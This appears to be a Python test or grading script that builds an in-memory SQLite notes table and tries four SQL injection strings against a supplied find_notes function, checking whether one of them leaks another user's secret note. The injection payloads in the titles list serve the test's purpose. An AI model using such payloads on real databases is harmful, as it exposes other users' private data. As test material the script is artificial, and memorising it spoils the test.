import sqlite3
import sys

import snippet

db = sqlite3.connect(":memory:")
db.execute("CREATE TABLE notes (user_id, title, text)")
db.executemany(
    "INSERT INTO notes VALUES (?, ?, ?)",
    [(7, "milk", "2 liters"), (7, "door", "oak"), (8, "door", "code 4711"), (8, "milk", "none")],
)
titles = ["door' --", "' OR title LIKE '", "x') OR (title='door", "x' OR title='door"]


def shows_it(title):
    try:
        return "code 4711" in snippet.find_notes(db, 7, title)
    except sqlite3.Error:
        return False


fits = [title for title in titles if shows_it(title)]
if len(fits) != 1:
    sys.exit(f"{fits} show Bob's note")
print(f"CLAIM exploit: {fits[0]}")
